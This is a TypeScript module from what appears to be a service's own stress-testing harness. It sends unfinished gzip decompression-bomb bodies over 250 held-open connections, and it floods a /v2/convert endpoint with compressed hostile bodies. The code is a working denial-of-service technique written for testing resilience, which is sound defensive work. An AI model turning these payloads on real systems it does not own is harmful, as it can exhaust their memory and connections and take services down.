import { constants, createGzip, gzipSync } from 'node:zlib';
import type { Attack, AttackContext } from '../attack.js';
import { bodiesOf } from '../corpus.js';
import { askByManyClients } from '../many-clients.js';
import type { Document } from '../openapi-document.js';
import { ask, withConnections } from '../requests.js';

// Bodies that become much more than they are on the way.

const PATH = '/v2/convert';
const CONNECTIONS = 250;
const CLIENTS = 5;
const INFLATED = 1_900_000;
const AT_ONCE = 8;

/** The beginning of a compressed text of almost two megabytes, of which nobody sends the end. */
async function unfinished(): Promise<Buffer> {
  const gzip = createGzip();
  gzip.write(Buffer.alloc(INFLATED, ' '));
  await new Promise<void>((resolve) => gzip.flush(constants.Z_SYNC_FLUSH, resolve));
  return gzip.read() as Buffer;
}

async function sendUnfinished(context: AttackContext): Promise<string> {
  const body = await unfinished();
  const seconds = context.short ? 4 : 20;
  const head = `POST ${PATH} HTTP/1.1\r\nhost: attack\r\ncontent-type: text/csv\r\ncontent-encoding: gzip\r\ntransfer-encoding: chunked\r\n\r\n`;
  const text = `${head}${body.length.toString(16)}\r\n${body.toString('latin1')}\r\n`;
  await withConnections(
    context.environment.url,
    { count: CONNECTIONS, clients: CLIENTS },
    async (connections) => {
      for (const connection of connections) connection.write(text);
      await context.pause(seconds * 1_000);
    },
  );
  return `${CONNECTIONS} bodies of ${body.length} bytes that become two megabytes and never end, for ${seconds} s`;
}

async function sendHostile(context: AttackContext): Promise<string> {
  const { url } = context.environment;
  const document = JSON.parse((await ask(url, '/openapi.json')).body) as Document;
  const example = Object.values(document.paths[PATH]?.post?.requestBody?.content ?? {})[0]?.example;
  const requests = bodiesOf(example).map(({ type, text }) => ({
    path: PATH,
    method: 'POST',
    headers: { 'content-type': type, 'content-encoding': 'gzip' },
    body: gzipSync(text),
    name: `${type} ${text.slice(0, 20)}…`,
  }));
  const clients = { count: AT_ONCE, network: '127.1.1', seconds: context.short ? 5 : 60 };
  const { asked, counts } = await askByManyClients(
    context,
    clients,
    (number) => requests[number % requests.length] ?? { path: PATH },
  );
  return `${asked} bodies of two megabytes, compressed: long and quoted lines, blank lines, brackets, deep ones, ${AT_ONCE} at a time: ${counts}`;
}

export const bodies: readonly Attack[] = [
  { name: 'unfinished bodies', run: sendUnfinished },
  { name: 'hostile bodies', run: sendHostile },
];
